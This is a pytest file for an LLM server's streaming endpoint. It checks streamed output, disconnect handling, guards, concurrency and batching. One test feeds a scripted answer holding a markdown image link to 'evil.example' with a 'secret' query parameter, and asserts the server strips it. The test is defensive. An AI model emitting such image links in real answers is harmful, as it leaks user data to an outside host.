"""`ladder serve` streaming token by token, against the real server (uvicorn on 127.0.0.1).

The real embedded model (transformers) and the llama.cpp backend stream the same text as they
answer without streaming, and the first content delta leaves long before the answer is done;
a client that goes away stops generation and is logged (`client_closed`); the log row carries
the whole answer and `ttft_s`. Guard logic (a whole-answer guard turns token streaming off,
images are held back, admission holds while a stream runs) uses a scripted model that streams
one word at a time with a pause, because the 135M model cannot be made to write a JSON object
or an image link on demand."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator

import httpx
import pytest
from conftest import write_task
from test_serve import serving

from llm_ladder.models.base import Generation, GenParams, Messages
from llm_ladder.serving.app import Served, create_app, whole_answer_reasons
from llm_ladder.serving.build import build_served
from llm_ladder.store import Store
from llm_ladder.task import ServeConfig, load_task
from llm_ladder.testing import ScriptedModel

QUESTIONS = ["How do I apply for a building permit?", "What is a load-bearing wall?"]


class StreamingScripted(ScriptedModel):
    """The scripted model with `stream`: its answer one word at a time, `pause` s apart."""

    def __init__(self, *args, pause: float = 0.02, **kw):
        super().__init__(*args, **kw)
        self.pause = pause
        self.streamed = 0
        self.stopped_early = False

    def stream(self, messages: Messages, params: GenParams) -> Iterator[str | Generation]:
        self.streamed += 1
        (gen,) = self.generate([messages], params)
        words = gen.text.split(" ")
        done = False
        try:
            for i, word in enumerate(words):
                time.sleep(self.pause)
                yield word if i == 0 else " " + word
            done = True
        finally:
            self.stopped_early = not done
        yield gen


def events(lines: Iterator[str]) -> Iterator[dict]:
    for line in lines:
        if line.startswith("data: ") and line != "data: [DONE]":
            yield json.loads(line[6:])


def stream(base: str, question: str, max_tokens: int) -> tuple[list[str], float | None, float,
                                                                dict | None, bool]:
    """(content deltas, time to the first, total time, usage, [DONE] seen) of one request."""
    body = {"messages": [{"role": "user", "content": question}], "max_tokens": max_tokens,
            "stream": True, "stream_options": {"include_usage": True}}
    parts, first, usage, done = [], None, None, False
    t0 = time.perf_counter()
    with httpx.stream("POST", f"{base}/v1/chat/completions", json=body, timeout=120) as r:
        assert r.status_code == 200, r.read()
        for line in r.iter_lines():
            done = done or line == "data: [DONE]"
            for ev in events([line]):
                assert "error" not in ev, ev
                if ev.get("usage"):
                    usage = ev["usage"]
                for ch in ev["choices"]:
                    if ch["delta"].get("content"):
                        first = first if first is not None else time.perf_counter() - t0
                        parts.append(ch["delta"]["content"])
    return parts, first, time.perf_counter() - t0, usage, done


def plain(base: str, question: str, max_tokens: int) -> dict:
    r = httpx.post(f"{base}/v1/chat/completions", timeout=120, json={
        "messages": [{"role": "user", "content": question}], "max_tokens": max_tokens})
    assert r.status_code == 200, r.text
    return r.json()


@pytest.fixture(scope="module")
def task(tmp_path_factory):
    return load_task(write_task(tmp_path_factory.mktemp("stream")))


@pytest.fixture(scope="module")
def llama():
    pytest.importorskip("llama_cpp")
    from llm_ladder.models.llamacpp import LlamaCppModel

    return LlamaCppModel(context_length=1024)


@pytest.mark.parametrize("backend", ["local", "llamacpp"])
def test_streamed_text_is_the_answer_and_arrives_early(task, smol, llama, tmp_path, backend):
    served = build_served(task, "zero-shot", model=smol if backend == "local" else llama)
    assert whole_answer_reasons(served, ServeConfig()) == []
    store = Store(tmp_path / "runs.db")
    with serving(create_app(served, ServeConfig(), store)) as base:
        for q in QUESTIONS:
            want = plain(base, q, 20)
            parts, first, total, usage, done = stream(base, q, 20)
            assert "".join(parts) == want["choices"][0]["message"]["content"]
            assert usage == want["usage"] and done
        # with room for a long answer, the first words leave long before the last
        parts, first, total, _, _ = stream(base, QUESTIONS[0], 64)
        assert len(parts) > 10, parts
        assert first is not None and first < 0.5 * total, (first, total)
    rows = [r for r in store.request_logs() if r["details"].get("stream") == "tokens"]
    assert len(rows) == 3 and all(r["status"] == "ok" for r in rows)
    last = rows[-1]
    assert last["response"] == "".join(parts) and last["tokens_out"] > 10
    assert 0 < last["details"]["ttft_s"] < 0.5 * last["latency_s"]


def test_openai_backend_streams_what_it_answers(task, smol, tmp_path):
    """The openai backend's `stream` against a real OpenAI-compatible server: this one."""
    from llm_ladder.models.openai import OpenAIModel

    served = build_served(task, "zero-shot", model=smol)
    with serving(create_app(served, ServeConfig(), Store(tmp_path / "runs.db"))) as base:
        client = OpenAIModel(served.name, base_url=f"{base}/v1", timeout_s=60)
        msgs, params = [{"role": "user", "content": QUESTIONS[0]}], GenParams(max_tokens=20)
        (want,) = client.generate([msgs], params)
        items = list(client.stream(msgs, params))
        two = [msgs, [{"role": "user", "content": QUESTIONS[1]}]]
        batch = list(client.stream_batch(two, params, lambda i: False))
    *parts, gen = items
    assert want.error is None and gen.error is None and len(parts) > 5
    assert "".join(parts) == gen.text == want.text
    assert (gen.tokens_in, gen.tokens_out) == (want.tokens_in, want.tokens_out)
    ends = {i: g for i, g in batch if isinstance(g, Generation)}
    assert sorted(ends) == [0, 1] and ends[0].text == want.text
    assert "".join(d for i, d in batch if i == 1 and isinstance(d, str)) == ends[1].text


def test_stream_in_threads_merges_cancels_and_isolates_failures():
    from llm_ladder.models.base import stream_in_threads

    closed: list[int] = []
    made = {0: 0, 1: 0, 2: 0}  # words each stream has produced

    def words(msgs: Messages, params: GenParams) -> Iterator[str | Generation]:
        k = int(msgs[0]["content"])
        try:
            if k == 2:
                raise RuntimeError("backend broke")
            for w in range(5):
                time.sleep(0.01)
                made[k] += 1
                yield f"{k}.{w} "
            yield Generation("done", 1, 5, 0.0)
        finally:
            closed.append(k)

    reqs = [[{"role": "user", "content": str(k)}] for k in range(3)]
    seen: dict[int, list] = {0: [], 1: [], 2: []}
    for i, item in stream_in_threads(words, reqs, GenParams(), lambda i: i == 1 and
                                     made[1] >= 3):
        seen[i].append(item)
    assert seen[0][:5] == [f"0.{w} " for w in range(5)] and seen[0][5].text == "done"
    assert seen[1] == ["1.0 ", "1.1 "]  # cancelled: closed at its next delta, no Generation
    (err,) = seen[2]
    assert err.error == "RuntimeError: backend broke"
    assert sorted(closed) == [0, 1, 2]


def test_disconnect_stops_generation_and_is_logged(task, smol, tmp_path):
    served = build_served(task, "zero-shot", model=smol)
    store = Store(tmp_path / "runs.db")
    app = create_app(served, ServeConfig(max_output_tokens=400), store)
    body = {"messages": [{"role": "user", "content": "Describe the building permit process "
                                                     "in Sweden in great detail."}],
            "max_tokens": 400, "stream": True}
    with serving(app) as base:
        with httpx.stream("POST", f"{base}/v1/chat/completions", json=body, timeout=120) as r:
            got = ""
            for line in r.iter_lines():
                for ev in events([line]):
                    got += ev["choices"][0]["delta"].get("content") or ""
                if len(got) > 10:
                    break  # leaving the block closes the connection
        closed = time.perf_counter()
        deadline = time.time() + 60
        while not store.request_logs() and time.time() < deadline:
            time.sleep(0.05)
        after_close = time.perf_counter() - closed
        (row,) = store.request_logs()
        assert row["status"] == "client_closed" and row["http_status"] == 499
        assert row["response"].startswith(got) and row["details"]["ttft_s"] > 0
        assert row["tokens_out"] < 200, row["tokens_out"]  # stopped, not run to 400
        assert app.app.state.engine.admitted == 0
        assert after_close < 3, after_close  # generation stopped (400 tokens take much longer)
        assert plain(base, QUESTIONS[1], 4)["choices"][0]["message"]["content"]


def test_whole_answer_guards_keep_the_checked_answer(task, tmp_path):
    answer = '{"category": "bygglov"}'
    model = StreamingScripted(answers=[answer])
    p = build_served(task, "zero-shot", model=model).pipeline
    schema = {"type": "object", "required": ["category"]}
    guarded = Served(p, model, task.name, "zero-shot", schema=schema)
    assert any("output_schema" in w for w in whole_answer_reasons(guarded, ServeConfig()))
    assert any("require_citations" in w for w in whole_answer_reasons(
        guarded, ServeConfig(require_citations=True)))
    assert whole_answer_reasons(Served(p, ScriptedModel(answers=["x"]), task.name, "z"),
                                ServeConfig())  # a model without `stream`
    with serving(create_app(guarded, ServeConfig(), Store(tmp_path / "a.db"))) as base:
        parts, _, _, _, done = stream(base, QUESTIONS[0], 20)
    assert parts == ['{"category": "bygglov"}'] and done  # one chunk: the validated JSON
    assert model.streamed == 0
    # the same model and pipeline without the guard streams word by word
    free = Served(p, model, task.name, "zero-shot")
    with serving(create_app(free, ServeConfig(), Store(tmp_path / "b.db"))) as base:
        parts, _, _, _, _ = stream(base, QUESTIONS[0], 20)
    assert len(parts) == 2 and "".join(parts) == answer and model.streamed == 1


def test_images_are_held_back_and_stripped(task, tmp_path):
    text = "Apply to the municipality ![logo](http://evil.example/?q=secret) first."
    model = StreamingScripted(answers=[text])
    served = Served(build_served(task, "zero-shot", model=model).pipeline, model, task.name,
                    "zero-shot")
    store = Store(tmp_path / "runs.db")
    with serving(create_app(served, ServeConfig(), store)) as base:
        parts, _, _, _, _ = stream(base, QUESTIONS[0], 40)
    assert len(parts) > 2 and not any("evil" in p for p in parts)
    assert "".join(parts) == "Apply to the municipality logo first."
    (row,) = store.request_logs()
    assert row["response"] == "".join(parts) and row["details"]["images_removed"] == 1


def test_admission_holds_while_streaming(task, tmp_path):
    model = StreamingScripted(answers=[" ".join(["word"] * 40)], pause=0.05)
    served = Served(build_served(task, "zero-shot", model=model).pipeline, model, task.name,
                    "zero-shot")
    cfg = ServeConfig(max_concurrency=1, max_queue=0)
    body = {"messages": [{"role": "user", "content": QUESTIONS[0]}], "max_tokens": 64,
            "stream": True}
    with serving(create_app(served, cfg, Store(tmp_path / "runs.db"))) as base:
        url = f"{base}/v1/chat/completions"
        with httpx.stream("POST", url, json=body, timeout=60) as r:
            lines = r.iter_lines()
            next(lines)  # the role chunk: the stream is running
            busy = httpx.post(url, json={**body, "stream": False}, timeout=60)
            assert busy.status_code == 429
            rest = list(lines)
        assert rest[-1] == "data: [DONE]" or "data: [DONE]" in rest
        assert httpx.post(url, json={**body, "stream": False}, timeout=60).status_code == 200


def test_stream_batch_is_generate_row_by_row_and_ends_each_row_early(smol):
    """The local model's batched stream: each row's deltas join to what `generate` answers
    for the same batch, and a short answer's Generation comes before the long one ends."""
    reqs = [[{"role": "user", "content": "Say yes."}],
            [{"role": "user", "content": "Describe the building permit process in detail."}],
            [{"role": "user", "content": QUESTIONS[0]}]]
    params = GenParams(max_tokens=48)
    want = smol.generate(reqs, params)
    parts: dict[int, list[str]] = {0: [], 1: [], 2: []}
    ended: list[int] = []
    deltas_after: dict[int, int] = {}
    for i, item in smol.stream_batch(reqs, params, lambda i: False):
        if isinstance(item, Generation):
            ended.append(i)
            assert item.text == want[i].text and item.tokens_out == want[i].tokens_out
            assert item.tokens_in == want[i].tokens_in
            deltas_after[i] = 0
        else:
            assert i not in ended  # nothing after a row's Generation
            parts[i].append(item)
            for j in deltas_after:
                deltas_after[j] += 1
    assert sorted(ended) == [0, 1, 2]
    assert ["".join(parts[i]) for i in range(3)] == [w.text for w in want]
    shortest = min(range(3), key=lambda i: want[i].tokens_out)
    assert want[shortest].tokens_out < max(w.tokens_out for w in want)
    assert deltas_after[shortest] > 0  # other rows went on streaming after it ended


def test_a_cancelled_row_stops_and_the_others_go_on(smol):
    reqs = [[{"role": "user", "content": "Describe the building permit process in detail."}],
            [{"role": "user", "content": "Describe a load-bearing wall in great detail."}]]
    params = GenParams(max_tokens=40)
    want = smol.generate(reqs, params)
    seen = {0: 0, 1: 0}
    gens = {}
    for i, item in smol.stream_batch(reqs, params, lambda i: i == 0 and seen[0] >= 3):
        if isinstance(item, Generation):
            gens[i] = item
        else:
            seen[i] += 1
    assert seen[0] == 3 and 0 not in gens  # stopped at the next token, no Generation
    assert gens[1].text == want[1].text


def test_concurrent_streams_are_generated_together(task, smol, tmp_path):
    """Streamed clients arriving together share one batch (logged `batch` > 1) and each gets
    the answer it gets alone without streaming."""
    import threading

    served = build_served(task, "zero-shot", model=smol)
    store = Store(tmp_path / "runs.db")
    qs = QUESTIONS + ["Who signs off a finished building?", "What does a site plan show?"]
    with serving(create_app(served, ServeConfig(max_concurrency=4), store)) as base:
        want = [plain(base, q, 24)["choices"][0]["message"]["content"] for q in qs]
        got: dict[int, str] = {}
        start = threading.Barrier(len(qs))

        def client(k: int) -> None:
            start.wait()
            got[k] = "".join(stream(base, qs[k], 24)[0])

        threads = [threading.Thread(target=client, args=(k,)) for k in range(len(qs))]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
    rows = [r for r in store.request_logs() if r["details"].get("stream") == "tokens"]
    assert len(rows) == len(qs) and all(r["status"] == "ok" for r in rows)
    assert max(r["details"]["batch"] for r in rows) > 1, [r["details"] for r in rows]
    assert [got[k] for k in range(len(qs))] == want
